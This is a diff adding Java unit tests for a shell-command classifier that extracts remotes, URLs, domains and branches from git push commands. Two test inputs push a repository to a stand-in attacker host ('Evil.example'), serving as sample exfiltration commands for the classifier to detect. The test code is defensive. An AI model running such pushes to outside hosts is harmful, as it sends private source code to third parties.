@@ -110,6 +110,36 @@ class ShellClassifierTest {
   }
 
   @Test
+  void classify_pushToUrl_hasRemoteUrlAndDomainTargets() {
+    Classification c = SHELL.classify("git push https://Evil.example/x.git feat", CTX);
+    assertThat(c.targets())
+        .contains(
+            new Target(Target.Kind.REMOTE, "https://Evil.example/x.git"),
+            Target.url("https://Evil.example/x.git"),
+            Target.domain("evil.example"),
+            new Target(Target.Kind.BRANCH, "feat"));
+  }
+
+  @Test
+  void classify_pushToHeadsPrefix_resolvesToTheBranch() {
+    Classification c = SHELL.classify("git push origin feat:heads/main", CTX);
+    assertThat(c.targets()).contains(new Target(Target.Kind.BRANCH, "main"));
+  }
+
+  @Test
+  void classify_pushWithSetUpstream_keepsTheRemote() {
+    Classification c = SHELL.classify("git push -u origin feat", CTX);
+    assertThat(c.targets())
+        .contains(new Target(Target.Kind.REMOTE, "origin"), new Target(Target.Kind.BRANCH, "feat"));
+  }
+
+  @Test
+  void classify_scpLikeRemote_hasHostDomain() {
+    Classification c = SHELL.classify("git push git@Git.Evil.example:x/y.git feat", CTX);
+    assertThat(c.targets()).contains(Target.domain("git.evil.example"));
+  }
+
+  @Test
   void classify_install_hasPackageTargets() {
     Classification c = SHELL.classify("npm install left-pad@1.3.0 react", CTX);
     assertThat(c.targets())
